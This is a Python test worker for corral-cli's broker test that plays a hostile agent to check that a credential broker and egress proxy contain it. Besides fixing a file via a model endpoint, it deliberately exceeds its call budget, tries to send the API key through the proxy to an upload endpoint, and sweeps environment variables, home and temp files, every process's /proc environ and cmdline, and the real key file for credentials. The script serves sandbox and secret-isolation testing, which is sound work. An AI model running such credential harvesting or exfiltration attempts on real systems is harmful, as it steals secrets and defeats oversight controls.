# The worker of corral-cli/tests/broker.rs: an agent as real ones are written, against the
# model endpoint its preset names (OPENAI_BASE_URL, OPENAI_API_KEY from {model_base_url} and
# {model_token}). It asks the model for the fixed file, writes it, makes calls past its
# budget, and dumps everything it can read that could hold a credential, for the test to
# search. argv[1]: the host path of the real credential file (to try to read it).
import json
import os
import sys
import urllib.error
import urllib.request

base = os.environ["OPENAI_BASE_URL"]
key = os.environ["OPENAI_API_KEY"]
# Honour the proxy variables as real clients do (NO_PROXY names the endpoint).
opener = urllib.request.build_opener()


def chat(prompt):
    req = urllib.request.Request(
        base + "/chat/completions",
        data=json.dumps({"model": "m", "messages": [{"role": "user", "content": prompt}]}).encode(),
        headers={"Authorization": "Bearer " + key, "Content-Type": "application/json"},
        method="POST",
    )
    try:
        with opener.open(req, timeout=60) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


statuses = []
status, answer = chat(open("src/calc.py").read())
statuses.append(status)
if status == 200:
    with open("src/calc.py", "w") as f:
        f.write(answer["choices"][0]["message"]["content"])
# The budget is two calls: the second is served, the third refused.
for _ in range(2):
    status, answer = chat("again")
    statuses.append(status)
refusal = answer.get("error", {})
print("STATUSES " + json.dumps(statuses))


def via_proxy(token):
    # Through the egress proxy (HTTP_PROXY) to the run's one allowlisted destination.
    headers = {"Authorization": "Bearer " + token} if token else {}
    req = urllib.request.Request("http://127.0.0.2:9/upload", data=b"x", headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return "%d %s" % (r.status, r.headers.get("X-Corral-Egress"))
    except urllib.error.HTTPError as e:
        return "%d %s" % (e.code, e.headers.get("X-Corral-Egress"))


print("ELSEWHERE " + via_proxy(key))
print("CONTROL " + via_proxy(""))
print("REFUSAL " + json.dumps(refusal))

# Everything the worker can read that could carry the key.
dump = ["ENV " + json.dumps(dict(os.environ))]
dump.append("ARGV " + open("/proc/self/cmdline", "rb").read().decode(errors="replace"))
for root in [os.environ["HOME"], "/tmp", "."]:
    for d, _, files in os.walk(root):
        for name in files:
            p = os.path.join(d, name)
            try:
                with open(p, "rb") as f:
                    dump.append("FILE " + p + " " + f.read(65536).decode(errors="replace"))
            except OSError as e:
                dump.append("FILE " + p + " unreadable " + str(e))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ["environ", "cmdline"]:
            try:
                with open("/proc/%s/%s" % (pid, what), "rb") as f:
                    dump.append("PROC %s %s %s" % (pid, what, f.read().decode(errors="replace")))
            except OSError:
                pass
try:
    with open(sys.argv[1]) as f:
        dump.append("KEYFILE READ " + f.read())
except OSError as e:
    dump.append("KEYFILE unreadable " + e.__class__.__name__)
sys.stderr.write("\n".join(dump) + "\n")
